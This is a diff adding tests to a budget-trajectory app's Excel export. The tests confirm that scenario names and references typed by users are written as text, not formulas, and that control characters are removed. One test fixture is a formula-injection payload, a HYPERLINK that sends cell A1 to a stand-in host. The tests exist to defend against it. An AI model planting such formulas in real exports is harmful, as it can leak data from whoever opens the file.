@@ -258,3 +258,37 @@ def test_the_demo_scenarios_load_twice_to_the_same_three(budget):
     assert second[2].convergence_target == D("48000")
     runs = scenarios.runs(budget)
     assert len(runs) == 3 and all(len(r.trajectory.years) == 5 for r in runs)
+
+
+def _formulas(workbook) -> list[str]:
+    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook for row in sheet.iter_rows() for cell in row
+            if cell.data_type == "f"]
+
+
+HYPERLINK = '=HYPERLINK("http://exemple.fr/?"&A1,"Cliquez ici")'
+
+
+def test_what_people_typed_is_written_as_text_never_as_a_formula(client_for, worked):
+    contract = worked.budget.contract
+    Scenario.objects.filter(pk=worked.pk).update(name=HYPERLINK)
+    type(contract).objects.filter(pk=contract.pk).update(reference="=2+3")
+    mas = contract.establishments.get(category="MAS")
+    type(mas).objects.filter(pk=mas.pk).update(name="+33 MAS Les Hauts")
+    response = client_for("asso").get(f"{_base(contract)}trajectoire.xlsx")
+    workbook = load_workbook(BytesIO(response.content))
+    assert _formulas(workbook) == []
+    comparison = workbook["Comparaison"]
+    assert (comparison["C1"].value, comparison["C1"].data_type, comparison["C1"].quotePrefix) == (HYPERLINK, "s", True)
+    footer = next(c for row in comparison.iter_rows() for c in row if str(c.value).startswith("=2+3"))
+    assert footer.value == "=2+3 – Association Les Chemins de Loire" and footer.data_type == "s"
+    sheet = workbook[workbook.sheetnames[1]]
+    names = {r[0].value for r in sheet.iter_rows(min_row=2) if r[0].data_type == "s"}
+    assert "+33 MAS Les Hauts" in names
+
+
+def test_a_scenario_name_with_a_backspace_still_exports(client_for, worked):
+    Scenario.objects.filter(pk=worked.pk).update(name="Taux\x08 régional")
+    response = client_for("asso").get(f"{_base(worked.budget.contract)}trajectoire.xlsx")
+    workbook = load_workbook(BytesIO(response.content))
+    assert workbook.sheetnames == ["Comparaison", "Taux régional"]
+    assert workbook["Comparaison"]["C1"].value == "Taux régional"
